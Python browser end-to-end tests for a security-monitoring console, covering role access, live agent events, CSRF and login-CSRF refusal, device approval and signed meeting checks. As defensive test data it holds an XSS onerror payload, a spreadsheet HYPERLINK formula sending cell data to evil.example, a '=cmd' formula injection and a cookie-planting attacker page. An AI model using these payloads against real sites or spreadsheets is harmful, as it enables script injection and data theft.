"""The console in Debian Chromium: roles, live events from a running agent, hostile
strings inert on screen and in the export, CSRF refusal (login CSRF by a planted cookie
too), approval reaching the agent, an account's grant and first login.

Screenshots of every page are kept under test-artifacts/screenshots/.
"""

from __future__ import annotations

import csv
import http.server
import io
import re
import threading
import time
import urllib.request
from typing import Any

import pytest
from baomi.meeting.signature import sign_meeting_check
from baomi.v1 import events_pb2

from agent.identity import load_identity
from collector.console.auth import create_account
from collector.console.routes import ROUTES
from collector.store.base import ROLES
from tests.e2e.conftest import ACCOUNTS, PASSWORD, Site, screenshot_dir

pytestmark = pytest.mark.browser

XSS = "<img src=x onerror=alert(1)>"
FORMULA_PATH = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _login(page: Any, base: str, role: str) -> None:
    page.goto(base + "/login")
    page.fill("input[name=name]", ACCOUNTS[role])
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(base + "/")


def _wait_stored(site: Site, what: Any, seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while not what():
        assert time.monotonic() < deadline, "timed out waiting for the collector"
        time.sleep(0.05)


def _events_of(site: Site, kind: str) -> list[events_pb2.Event]:
    return [
        events_pb2.Event.FromString(r.body)
        for r in site.running.store.chain("ws-01")
        if r.kind == kind
    ]


def _open(context: Any, dialogs: list[str]) -> Any:
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    return page


@pytest.mark.parametrize("role", ROLES)
def test_each_role_sees_only_its_pages(site: Site, browser_for: Any, role: str) -> None:
    dialogs: list[str] = []
    page = _open(browser_for(), dialogs)
    _login(page, site.base, role)
    nav = sorted(
        page.eval_on_selector_all("header nav a", "links => links.map(a => a.getAttribute('href'))")
    )
    mine = sorted(p.path for p in ROUTES if p.nav and role in p.roles)
    assert nav == mine
    shots = screenshot_dir()
    for path in mine:
        response = page.goto(site.base + path)
        assert response.status == 200, path
        name = path.strip("/").replace("/", "-") or "overview"
        page.screenshot(path=str(shots / f"{role}-{name}.png"), full_page=True)
    others = {p.path for p in ROUTES if p.nav and role not in p.roles}
    for path in sorted(others):
        response = page.goto(site.base + path)
        assert response.status == 403, path
        assert page.locator("#error-message").is_visible()
    page.screenshot(path=str(shots / f"{role}-forbidden.png"))
    # The APIs behind the pages refuse as well, whatever the browser sends.
    api = {
        "sysadmin": [
            ("GET", "/events/export.csv"),
            ("GET", "/events/stream"),
            ("POST", "/policy/save"),
        ],
        "secadmin": [
            ("GET", "/events/export.csv"),
            ("POST", "/hosts/token"),
            ("POST", "/audit/verify"),
        ],
        "auditor": [("POST", "/devices/approve"), ("POST", "/accounts/new"), ("GET", "/hosts")],
    }[role]
    for method, path in api:
        response = page.request.fetch(
            site.base + path, method=method, form={"x": "1"} if method == "POST" else None
        )
        assert response.status == 403, (method, path)
    assert not dialogs


def test_agent_event_appears_in_the_live_view_within_two_seconds(
    site: Site, browser_for: Any
) -> None:
    dialogs: list[str] = []
    page = _open(browser_for(), dialogs)
    _login(page, site.base, "auditor")
    page.goto(site.base + "/events?host=ws-01&heartbeats=1")  # heartbeats: live
    # Heartbeats of the running agent arrive live first: the stream is connected.
    page.wait_for_selector("#events-body tr.new", timeout=10_000)
    marker = f"/srv/secret/live-{time.time_ns()}.docx"
    sent = time.monotonic()
    site.agent.agent.emit(
        events_pb2.Event(
            severity=events_pb2.SEVERITY_MEDIUM,
            file_access=events_pb2.FileAccess(
                path=marker, action="read", user="wang", decision=events_pb2.DECISION_DENY
            ),
        )
    )
    page.wait_for_selector(f"#events-body td.summary:has-text('{marker}')", timeout=2_000)
    took = time.monotonic() - sent
    assert took < 2.0
    page.screenshot(path=str(screenshot_dir() / "auditor-events-live.png"), full_page=True)
    assert not dialogs


def test_hostile_device_name_and_path_are_inert(site: Site, browser_for: Any) -> None:
    dialogs: list[str] = []
    auditor = _open(browser_for(), dialogs)
    _login(auditor, site.base, "auditor")
    auditor.goto(site.base + "/events?host=ws-01&heartbeats=1")  # heartbeats: live
    auditor.wait_for_selector("#events-body tr.new", timeout=10_000)  # live
    agent = site.agent.agent
    agent.emit(
        events_pb2.Event(
            severity=events_pb2.SEVERITY_MEDIUM,
            device=events_pb2.Device(
                action="add",
                device_class="storage",
                vendor_id="0781",
                product_id="5567",
                serial="4C53XSS0001",
                name=XSS,
                descriptor_hash="jEP/6WzviqdJ5VSeTUY8PatCNBKeaREvo2OqdplND/o=",
                interfaces="08:06:50",
                decision=events_pb2.DECISION_DENY,
            ),
        )
    )
    agent.emit(
        events_pb2.Event(
            severity=events_pb2.SEVERITY_MEDIUM,
            file_access=events_pb2.FileAccess(
                path=FORMULA_PATH,
                action="read",
                user="=cmd|' /C calc'!A0",
                decision=events_pb2.DECISION_DENY,
            ),
        )
    )
    # Shown live, as text.
    auditor.wait_for_selector("#events-body td.summary:has-text('onerror=alert(1)')", timeout=5_000)
    auditor.wait_for_selector("#events-body td.summary:has-text('HYPERLINK')", timeout=5_000)
    _wait_stored(site, lambda: _events_of(site, "device"))
    device_seq = _events_of(site, "device")[-1].seq
    # And on every page that shows them, loaded from the server.
    for path in ("/events?host=ws-01", f"/events/ws-01/{device_seq}"):
        auditor.goto(site.base + path)
        assert auditor.locator("main img").count() == 0
        assert XSS in auditor.inner_text("main")
    auditor.screenshot(path=str(screenshot_dir() / "auditor-event-detail.png"), full_page=True)
    auditor.goto(site.base + "/events?host=ws-01")
    with auditor.expect_download() as download:
        auditor.click("#export")
    text = download.value.path().read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + "=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(FORMULA_PATH in cell and cell.startswith("'") for cell in cells)
    # The security administrator's devices page shows the name as text.
    dialogs_sec: list[str] = []
    secadmin = _open(browser_for(), dialogs_sec)
    _login(secadmin, site.base, "secadmin")
    secadmin.goto(site.base + "/devices")
    assert secadmin.locator("main img").count() == 0
    assert XSS in secadmin.inner_text("td.device-name")
    secadmin.screenshot(path=str(screenshot_dir() / "secadmin-devices-hostile.png"), full_page=True)
    time.sleep(0.5)  # give any injected handler the chance to fire
    assert not dialogs and not dialogs_sec


def test_approving_a_stick_in_the_browser_reaches_the_running_agent(
    site: Site, browser_for: Any
) -> None:
    agent = site.agent.agent
    agent.emit(
        events_pb2.Event(
            severity=events_pb2.SEVERITY_MEDIUM,
            device=events_pb2.Device(
                action="add",
                device_class="storage",
                vendor_id="0951",
                product_id="1666",
                serial="E2E-STICK-0001",
                name="DataTraveler",
                interfaces="08:06:50",
                decision=events_pb2.DECISION_DENY,
            ),
        )
    )
    _wait_stored(
        site, lambda: any(e.device.serial == "E2E-STICK-0001" for e in _events_of(site, "device"))
    )
    before = site.running.collector.policy.current
    assert before is not None
    dialogs: list[str] = []
    page = _open(browser_for(), dialogs)
    _login(page, site.base, "secadmin")
    page.goto(site.base + "/devices")
    row = page.locator("tr", has_text="E2E-STICK-0001")
    row.locator("input[name=label]").fill("BM-E2E-001")
    row.locator("input[name=owner]").fill("wang")
    row.locator("select[name=level]").select_option("机密")
    row.locator("button[type=submit]").click()
    page.wait_for_url(site.base + "/devices")
    after = site.running.collector.policy.current
    assert after is not None and after.version != before.version
    assert b"BM-E2E-001" in after.files["usb-registry.toml"]
    # The running agent takes the signed bundle and reports the version it enforces.
    _wait_stored(site, lambda: agent.policy.version == after.version, seconds=15)
    _wait_stored(
        site,
        lambda: any(
            e.policy_applied.version == after.version and e.policy_applied.ok
            for e in _events_of(site, "policy_applied")
        ),
        seconds=15,
    )
    page.goto(site.base + "/devices")
    assert "decision-allow" in page.locator("tr", has_text="E2E-STICK-0001").inner_html()
    page.goto(site.base + "/policy/history")
    page.screenshot(path=str(screenshot_dir() / "secadmin-policy-history.png"), full_page=True)
    assert not dialogs


def test_form_post_without_csrf_token_is_refused(site: Site, browser_for: Any) -> None:
    page = _open(browser_for(), [])
    _login(page, site.base, "sysadmin")
    page.goto(site.base + "/hosts")
    page.fill("form[action='/hosts/token'] input[name=host]", "ws-csrf")
    # As a forged cross-site form would be: no token.
    page.eval_on_selector("form[action='/hosts/token'] input[name=csrf]", "e => e.remove()")
    with page.expect_response(re.compile(r"/hosts/token$")) as posted:
        page.click("form[action='/hosts/token'] button[type=submit]")
    assert posted.value.status == 403
    assert page.locator("#error-message").is_visible()
    page.screenshot(path=str(screenshot_dir() / "sysadmin-csrf-refused.png"))
    refused = [
        events_pb2.Event.FromString(r.body).console_action
        for r in site.running.store.chain("_collector")
        if r.kind == "console_action"
    ]
    assert any(a.action == "csrf_refused" and a.actor == "sam" for a in refused)
    assert not any(a.action == "token_create" and a.target == "ws-csrf" for a in refused)
    # With the token the same form works, and the token is shown once.
    page.goto(site.base + "/hosts")
    page.fill("form[action='/hosts/token'] input[name=host]", "ws-02")
    page.click("form[action='/hosts/token'] button[type=submit]")
    assert page.locator("#token").inner_text().startswith("bmt-")
    page.screenshot(path=str(screenshot_dir() / "sysadmin-hosts-token.png"), full_page=True)


def test_meeting_check_signature_status_in_the_browser(site: Site, browser_for: Any) -> None:
    """The running agent sends a signed check and one altered after signing: the page
    shows the first valid and cleared, the second INVALID, not cleared, linked to the
    collector's alert."""
    key_pem = load_identity(site.agent.agent.config.state_dir).key_pem
    for name, forge in (("e2e-good", False), ("e2e-forged", True)):
        check = events_pb2.MeetingCheck(
            room="r301",
            meeting=name,
            phase="check",
            cleared=not forge,
            items=[events_pb2.CheckItem(id="C7", title="cabinet", result="pass", mandatory=True)],
        )
        sign_meeting_check(check, key_pem)
        check.cleared = True  # the forged one: flipped after signing
        site.agent.agent.emit(
            events_pb2.Event(severity=events_pb2.SEVERITY_INFO, meeting_check=check)
        )
    _wait_stored(
        site,
        lambda: (
            {e.meeting_check.meeting for e in _events_of(site, "meeting_check")}
            >= {"e2e-good", "e2e-forged"}
        ),
    )
    dialogs: list[str] = []
    page = _open(browser_for(), dialogs)
    _login(page, site.base, "auditor")
    page.goto(site.base + "/meetings")
    good = page.locator("tbody tr", has_text="e2e-good")
    forged = page.locator("tbody tr", has_text="e2e-forged")
    assert good.locator("td.signature .badge").inner_text() == "签名有效"
    assert "准予召开" in good.inner_text()
    assert forged.locator("td.signature .badge").inner_text() == "签名无效"
    assert "不准召开" in forged.inner_text()
    page.screenshot(path=str(screenshot_dir() / "auditor-meetings-signatures.png"), full_page=True)
    forged.locator("td.signature a").click()
    page.wait_for_url(re.compile(r".*/events/_collector/\d+$"))
    assert "meeting_signature" in page.inner_text("main")
    assert not dialogs


class _AttackerSite:
    """A page on a sibling origin (same host, another port: same site, so it may set
    cookies the console receives) that plants a login token and posts the login form."""

    def __init__(self, page_html: str) -> None:
        body = page_html.encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_login_csrf_by_cookie_planting_fails(site: Site, browser_for: Any) -> None:
    """The attacker gets a valid login token for itself, plants it as the victim's
    login cookie from a sibling origin and posts its own name and password: the victim
    must not end up logged in as the attacker, and logs in as itself afterwards."""
    store = site.running.store
    create_account(store, "mallory", role="auditor", by="cli:test", password=PASSWORD)
    with urllib.request.urlopen(site.base + "/login") as r:  # noqa: S310 - the test's own URL
        token = re.search(r'name="csrf" value="([^"]+)"', r.read().decode())
    assert token
    attacker = _AttackerSite(
        f"""<!doctype html><body>
<form id="f" method="post" action="{site.base}/login">
<input name="csrf" value="{token.group(1)}"><input name="name" value="mallory">
<input name="password" value="{PASSWORD}"></form>
<script>
document.cookie = "baomi_login={token.group(1)}; path=/";
document.getElementById("f").submit();
</script></body>"""
    )
    try:
        page = _open(browser_for(), [])
        with page.expect_response(re.compile(r"/login$")) as posted:
            page.goto(attacker.base + "/")
        assert posted.value.status == 403
        # Not logged in as anyone: the console sends the victim to its login page.
        page.goto(site.base + "/")
        assert page.url.startswith(site.base + "/login")
        # Planted again, the login page still issues its own token, and the victim's
        # own login works and is the victim's.
        page.context.add_cookies(
            [{"name": "baomi_login", "value": token.group(1), "url": site.base}]
        )
        page.goto(site.base + "/login")
        assert page.locator("input[name=csrf]").get_attribute("value") != token.group(1)
        _login(page, site.base, "auditor")
        page.goto(site.base + "/audit")
        assert page.locator("header").inner_text().count("aud") >= 1
        assert "mallory" not in page.locator("header").inner_text()
    finally:
        attacker.close()
    actions = [
        events_pb2.Event.FromString(r.body).console_action
        for r in store.chain("_collector")
        if r.kind == "console_action"
    ]
    assert not any(a.action == "login" and a.actor == "mallory" for a in actions)
    refused = [a for a in actions if a.action == "csrf_refused" and a.actor == "mallory"]
    assert refused and refused[-1].client == "127.0.0.1"
    assert "Chrome" in refused[-1].user_agent


def test_granted_account_first_login_in_the_browser(site: Site, browser_for: Any) -> None:
    """Create (sysadmin, no password shown), grant (secadmin sees a one-time password),
    first login must change it: all in Chromium, same-origin posts included."""
    sam = _open(browser_for(), [])
    _login(sam, site.base, "sysadmin")
    sam.goto(site.base + "/accounts")
    sam.fill("form[action='/accounts/new'] input[name=name]", "erin")
    sam.click("form[action='/accounts/new'] button[type=submit]")
    sam.wait_for_url(site.base + "/accounts")
    assert sam.locator("#account-erin").is_visible()
    assert sam.locator("#new-password").count() == 0
    sue = _open(browser_for(), [])
    _login(sue, site.base, "secadmin")
    sue.goto(site.base + "/accounts")
    sue.select_option("#account-erin select[name=role]", "auditor")
    sue.click("#account-erin form[action='/accounts/grant'] button[type=submit]")
    one_time = sue.locator("#new-password").inner_text()
    sue.screenshot(path=str(screenshot_dir() / "secadmin-one-time-password.png"))
    erin = _open(browser_for(), [])
    erin.goto(site.base + "/login")
    erin.fill("input[name=name]", "erin")
    erin.fill("input[name=password]", one_time)
    erin.click("button[type=submit]")
    erin.wait_for_url(site.base + "/password")
    erin.fill("input[name=current]", one_time)
    erin.fill("input[name=new]", "erins-own-password")
    erin.fill("input[name=confirm]", "erins-own-password")
    erin.click("form[action='/password'] button[type=submit]")
    erin.wait_for_url(site.base + "/")
    assert erin.goto(site.base + "/audit").status == 200
